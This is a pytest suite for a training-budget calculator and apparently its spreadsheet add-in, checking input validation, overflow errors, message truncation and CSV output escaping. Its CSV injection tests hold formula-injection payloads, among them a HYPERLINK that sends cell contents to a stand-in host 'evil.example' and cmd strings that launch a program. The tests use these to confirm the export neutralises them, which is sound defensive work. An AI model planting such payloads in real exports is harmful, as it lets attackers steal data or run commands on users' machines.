"""Hostile and careless input at the edges: the API, the cells, CSV output and `measure --seconds`.

Each case asserts the one-line error that names the argument (and the element), or the safe result.
"""

from __future__ import annotations

import csv
import io
import math
import os

import numpy as np
import pytest

from tests.conftest import invoke, run_cli
from trainbudget import calc
from trainbudget.addin.cli import render
from trainbudget.addin.measure import backends, core as measure
from trainbudget.addin.udf import cells, udfs
from trainbudget.calc.base import checks as calc_checks, errors
from trainbudget.calc.model import hf_config as calc_config

H100 = "H100 SXM, BF16 tensor core, dense"
ACT = (32, 4096, 32, 4096, 1)  # n_layers, d_model, n_heads, seq_len, micro_batch


def _message(call) -> str:
    with pytest.raises(calc.TrainingBudgetError) as err:
        call()
    return str(err.value)


# --- shape mismatch: numpy's ValueError never leaks --------------------------------------------

@pytest.mark.parametrize(("call", "text"), [
    (lambda: calc.train_hours([1e9, 2e9], [1e9, 2e9, 3e9], H100),
     "params and tokens have shapes (2,) and (3,) that do not broadcast"),
    (lambda: calc.train_flops([1e9, 2e9], [1e9, 2e9, 3e9]),
     "params and tokens have shapes (2,) and (3,) that do not broadcast"),
    (lambda: calc.train_hours([1e9, 2e9], 1e9, H100, utilization=[0.3, 0.4, 0.5]),
     "params and utilization have shapes (2,) and (3,)"),
    (lambda: calc.train_hours(1e9, np.ones((2, 3)) * 1e9, H100, devices=np.ones(4)),
     "tokens and devices have shapes (2, 3) and (4,)"),
    (lambda: calc.train_memory([1e9, 2e9], zero_stage=3, devices=[1, 2, 4]),
     "params and devices have shapes (2,) and (3,)"),
    (lambda: calc.train_cost([1e9, 2e9], 1e9, H100, usd_per_device_hour=[1.0, 2.0, 3.0]),
     "params and usd_per_device_hour have shapes (2,) and (3,)"),
    (lambda: calc.train_flops(7e9, 1e9, n_layers=[1, 2], d_model=[1, 2, 3], seq_len=8),
     "n_layers and d_model have shapes (2,) and (3,)"),
    (lambda: calc.activation_bytes([1, 2], [64, 128, 256], 4, 8, 1),
     "n_layers and d_model have shapes (2,) and (3,)"),
])
def test_shape_mismatch_names_both_arguments(call, text):
    message = _message(call)
    assert text in message and "\n" not in message


def test_broadcasting_shapes_still_broadcast():
    got = calc.train_hours(np.array([[7e9], [70e9]]), [1e9, 2e9, 3e9], H100)
    assert got.shape == (2, 3)
    assert got[1, 2] == calc.train_hours(70e9, 3e9, H100)


# --- complex numbers: refused, never silently real ---------------------------------------------

@pytest.mark.parametrize(("call", "text"), [
    (lambda: calc.train_hours(7e9 + 1j, 1e9, H100), "params must be a real number (got (7000000000+1j))"),
    (lambda: calc.train_hours(np.complex128(7e9), 1e9, H100), "params must be a real number"),
    (lambda: calc.train_hours(np.array([7e9, 7e9 + 2j]), 1e9, H100), "params[1] must be a real number"),
    (lambda: calc.train_hours([7e9, 2j], 1e9, H100), "params[1] must be a real number (got 2j)"),
    (lambda: calc.train_bytes(7e9, devices=np.array([1, 2], dtype=object) + 0j, zero_stage=3),
     "devices[0] must be a real number (got (1+0j))"),
    (lambda: calc.activation_bytes(32, 4096 + 0j, 32, 4096, 1), "d_model must be a real number"),
])
def test_complex_numbers_refused(call, text):
    assert text in _message(call)


# --- overflow: an error naming the argument, never inf -----------------------------------------

@pytest.mark.parametrize(("call", "text"), [
    (lambda: calc.train_flops(1e308, 1e12), "params (got 1e+308) out of range: the result overflows"),
    (lambda: calc.train_hours(1e9, 1e308, H100), "tokens (got 1e+308) out of range"),
    (lambda: calc.train_hours([1e9, 1e308], 1e9, H100), "the result[1] overflows"),
    (lambda: calc.train_bytes(1e308), "params (got 1e+308) out of range"),
    (lambda: calc.train_memory(1e308).total, "params (got 1e+308) out of range"),
    (lambda: calc.activation_bytes(1e100, 1e100, 1, 1e100, 1e100), "n_layers (got 1e+100)"),
    (lambda: calc.chinchilla_tokens(1e308), "params (got 1e+308) out of range"),
    (lambda: calc.train_cost(1e300, 1e300, H100, usd_per_device_hour=1.0), "params (got 1e+300)"),
])
@pytest.mark.filterwarnings("ignore:overflow encountered:RuntimeWarning")  # numpy's, before the error
def test_overflow_is_an_error_naming_the_argument(call, text):
    with pytest.raises(errors.ResultOverflowError) as err:
        call()
    assert text in str(err.value)


def test_large_but_finite_results_pass_and_never_fitting_is_still_inf():
    assert calc.train_flops(1e150, 1e150) == pytest.approx(6e300)
    assert calc.devices_needed(7e12, H100) == math.inf  # "never fits" is the answer, not an overflow


def test_udf_overflow_says_so_not_does_not_fit():
    for got in (udfs.TRAIN_HOURS(1e308, 1e9, H100), udfs.TRAIN_BYTES(1e308),
                udfs.TRAIN_DEVICES_NEEDED(1e308, H100)):
        assert got.startswith("#VALUE! params (got 1e+308) out of range"), got
        assert "fit" not in got


# --- string flags: 'no' and 'False' never read as True -----------------------------------------

@pytest.mark.parametrize(("given", "means"), [
    (True, True), (False, False), (np.True_, True), (np.False_, False),
    ("no", False), ("False", False), ("FALSE", False), ("0", False), (" false ", False),
    ("yes", True), ("True", True), ("TRUE", True), ("1", True),
])
def test_string_flags_read_as_written(given, means):
    assert calc_checks.flag("f", given) is means
    plain = calc.activation_bytes(*ACT, sequence_parallel=means, flash_attention=means)
    assert calc.activation_bytes(*ACT, sequence_parallel=given, flash_attention=given) == plain
    assert calc.train_bytes(7e9, master=given) == calc.train_bytes(7e9, master=means)


def test_no_and_false_differ_from_true():
    assert (calc.activation_bytes(*ACT, tensor_parallel=8, sequence_parallel="no")
            != calc.activation_bytes(*ACT, tensor_parallel=8, sequence_parallel=True))
    assert (calc.activation_bytes(*ACT, flash_attention="False")
            != calc.activation_bytes(*ACT, flash_attention=True))


@pytest.mark.parametrize(("name", "given", "shown"), [
    ("sequence_parallel", "maybe", "'maybe'"), ("flash_attention", 1, "1"), ("flash_attention", None, "None"),
    ("sequence_parallel", "", "''"), ("flash_attention", [True], "[True]"), ("sequence_parallel", 0.0, "0"),
])
def test_other_flag_values_refused(name, given, shown):
    assert _message(lambda: calc.activation_bytes(*ACT, **{name: given})) == (
        f"{name} must be True or False (got {shown})")


def test_master_flag_refuses_text_it_cannot_read():
    assert _message(lambda: calc.train_bytes(7e9, master="nope")) == "master must be True or False (got 'nope')"


# --- element naming for pue and zero_stage -----------------------------------------------------

@pytest.mark.parametrize(("call", "text"), [
    (lambda: calc.train_energy_kwh(7e9, 1e9, H100, pue=[1.2, 0.5]), "pue[1] must be >= 1 (got 0.5)"),
    (lambda: calc.train_energy_kwh(7e9, 1e9, H100, pue=0.9), "pue must be >= 1 (got 0.9)"),
    (lambda: calc.train_energy_kwh(7e9, 1e9, H100, pue=[[1.1], [math.nan]]), "pue[1, 0] must be a finite number"),
    (lambda: calc.train_bytes(7e9, zero_stage=[0, 4]), "zero_stage[1] must be 0, 1, 2 or 3 (got 4)"),
    (lambda: calc.train_bytes(7e9, zero_stage=[1, 2, 1.5]), "zero_stage[2] must be 0, 1, 2 or 3 (got 1.5)"),
    (lambda: calc.train_bytes(7e9, zero_stage=-1), "zero_stage must be 0, 1, 2 or 3 (got -1)"),
    (lambda: calc.devices_needed(7e9, H100, zero_stage=[3, 5]), "zero_stage[1] must be 0, 1, 2 or 3 (got 5)"),
])
def test_array_errors_name_the_element(call, text):
    assert text in _message(call)


# --- the value as given ------------------------------------------------------------------------

@pytest.mark.parametrize(("kwargs", "shown"), [
    ({"utilization": 1.0000001}, "1.0000001"),
    ({"utilization": np.float64(1.0000001)}, "1.0000001"),
    ({"utilization": [0.5, 1.0000001]}, "1.0000001"),
    ({"utilization": np.float32(1.1)}, "1.1"),
    ({"utilization": np.array([0.5, 1.1], dtype=np.float32)}, "1.1"),
    ({"utilization": 1.000000000000001}, "1.000000000000001"),
    ({"utilization": -1.0}, "-1"),
    ({"utilization": 0}, "0"),
    ({"utilization": 3}, "3"),
    ({"devices": 2.5}, "2.5"),
    ({"devices": 0.1 + 0.2}, "0.30000000000000004"),
    ({"devices": 1e-300}, "1e-300"),
])
def test_message_shows_the_value_as_given(kwargs, shown):
    assert f"(got {shown})" in _message(lambda: calc.train_hours(7e9, 1e9, H100, **kwargs))


def test_numpy_text_and_ragged_lists_are_named():
    assert _message(lambda: calc.train_hours(np.array(["7e9"]), 1e9, H100)) == (
        "params[0] must be a number (got '7e9')")
    assert "params[1] must be a number" in _message(lambda: calc.train_hours([1e9, [1e9, 2e9]], 1e9, H100))


def test_huge_values_are_cut_in_messages():
    text = "x" * 32_767
    for call in (lambda: calc.train_hours(text, 1e9, H100), lambda: calc.train_hours(10**400, 1e9, H100),
                 lambda: calc.train_bytes(7e9, method=text), lambda: calc.train_hours(7e9, 1e9, text)):
        message = _message(call)
        assert len(message) < 300 and "…" in message


# --- UDF messages: short, one line -------------------------------------------------------------

@pytest.mark.parametrize("call", [
    lambda big: udfs.TRAIN_HOURS(big, 1e9, H100),
    lambda big: udfs.TRAIN_HOURS(7e9, 1e9, big),
    lambda big: udfs.TRAIN_BYTES(7e9, big),
    lambda big: udfs.TRAIN_ACTIVATION_BYTES(32, 4096, 32, 4096, 1, big),
    lambda big: udfs.TRAIN_HOURS(((1e9, big),), 1e9, H100),
])
def test_udf_message_cut_to_a_readable_length(call):
    big = "=" + "A1," * 10_922  # a 32,767-character cell, the most Excel holds
    assert len(big) == 32_767
    got = call(big)
    assert got.startswith(("#VALUE! ", "#N/A ")) and len(got) <= cells.MESSAGE_CHARS, got
    assert "\n" not in got and "…" in got


def test_unexpected_error_messages_are_cut_too():
    got = cells.error_out(RuntimeError("boom " * 1000 + "\nsecond line"))
    assert got.startswith("#VALUE! unexpected RuntimeError: boom") and len(got) <= cells.MESSAGE_CHARS
    assert "second line" not in got


# --- TRAIN_BUDGET over a range -----------------------------------------------------------------

@pytest.mark.parametrize(("args", "text"), [
    ((((7e9,), (13e9,)), 1e12, H100), "#VALUE! TRAIN_BUDGET takes one scenario; params is a range of 2 cells"),
    ((7e9, ((1e12, 2e12, 3e12),), H100), "#VALUE! TRAIN_BUDGET takes one scenario; tokens is a range of 3 cells"),
    ((7e9, 1e12, ((H100,), (H100,))), "#VALUE! TRAIN_BUDGET takes one scenario; device is a range of 2 cells"),
    ((7e9, 1e12, H100, ((0.3, 0.4),)), "#VALUE! TRAIN_BUDGET takes one scenario; utilization is a range of 2 cells"),
])
def test_train_budget_over_a_range_says_it_takes_one_scenario(args, text):
    assert udfs.TRAIN_BUDGET(*args) == text


def test_train_budget_one_cell_range_is_that_cell():
    assert udfs.TRAIN_BUDGET(((7e9,),), 1e12, ((H100,),)) == udfs.TRAIN_BUDGET(7e9, 1e12, H100)


# --- CSV injection (OWASP) ---------------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1", "=1+1", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_escapes_formula_text(payload):
    text = render.to_csv([{"device": payload, "tflops": -2.5, "hours": 3.0, "note": "plain"}])
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["device"] == "'" + payload  # read back: the text, quoted so no spreadsheet runs it
    assert row["tflops"] == "-2.5" and row["note"] == "plain"  # numbers, negative ones too, untouched


def test_csv_header_and_ordinary_text_untouched():
    text = render.to_csv([{"name": "H100 SXM", "-x": "a-b", "n": -1}])
    assert text == "name,'-x,n\r\nH100 SXM,a-b,-1\r\n"


@pytest.fixture
def hostile_catalog(tmp_path):
    path = tmp_path / "devices.csv"
    rows = [{"name": p.strip(), "tflops": 100 + i, "kind": "measured", "source": p.strip(), "note": p.strip()}
            for i, p in enumerate(PAYLOADS[:5])]
    with path.open("w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def test_devices_and_estimate_csv_escape_device_rows(hostile_catalog):
    for args in (("devices", "--csv"),
                 ("estimate", "--csv", *[a for p in PAYLOADS[:5] for a in ("--device", p)])):
        out = run_cli(*args, "--catalog", str(hostile_catalog), check=True).stdout
        got = _cells(out)
        assert not [c for c in got if c.startswith(render.FORMULA_STARTS)], out
        for p in PAYLOADS[:5]:
            assert "'" + p in got
        assert any(c.startswith("10") for c in got)  # rates are still plain numbers


# --- measure --seconds -------------------------------------------------------------------------

@pytest.mark.parametrize("seconds", ["inf", "0", "-1", "1e9", "nan", "3600.5", "1,5"])
def test_measure_seconds_bounded(seconds, tmp_path):
    proc = run_cli("measure", "--backend", "numpy", f"--seconds={seconds}")
    assert proc.returncode == 2
    want = {"inf": "--seconds must be a finite number", "nan": "--seconds must be a finite number",
            "1,5": "--seconds: write 1.5"}.get(seconds, "seconds must be > 0 and at most 3600")  # read as the counts
    assert proc.stderr.count("\n") == 1 and want in proc.stderr, proc.stderr
    assert proc.stdout == ""


@pytest.mark.parametrize("seconds", [math.inf, 0, -1, 1e9, math.nan, True])
def test_measure_api_refuses_unbounded_time(seconds):
    with pytest.raises(calc.TrainingBudgetError, match="seconds must be > 0 and at most 3600"):
        measure.measure(backends.numpy_backend(), "fp64", seconds=seconds, sizes=(64,))


# --- issue 19: file options never block and say their limit right ------------------------------

@pytest.mark.parametrize("args", [("devices", "--catalog", "{fifo}"),
                                  ("estimate", "--catalog", "{fifo}", "--params", "7e9", "--tokens", "1e12")])
def test_a_fifo_catalog_is_refused_without_blocking(tmp_path, args):
    fifo = tmp_path / "devices.csv"
    os.mkfifo(fifo)
    proc = invoke(*[a.replace("{fifo}", str(fifo)) for a in args])  # a plain open() would wait forever
    assert proc.returncode == 2 and "not a regular file" in proc.stderr, proc.stderr


def test_config_size_refusal_names_the_limit(tmp_path):
    path = tmp_path / "config.json"
    path.write_text('{"pad": "' + "x" * calc_config.MAX_CONFIG_BYTES + '"}')
    message = _message(lambda: calc.load_config(path))
    assert "larger than 1,000,000 bytes (0.95 MiB)" in message and "not JSON" not in message


@pytest.mark.parametrize("kwargs", [{"active_params": 1e308}, {"devices": 1e308}])
def test_prior_of_extreme_jobs_says_its_decade(kwargs):
    prior = calc.utilization_prior(H100, **kwargs)  # the basis's decade once ended in an OverflowError
    assert "or more" in prior.basis and math.isfinite(prior.expected)
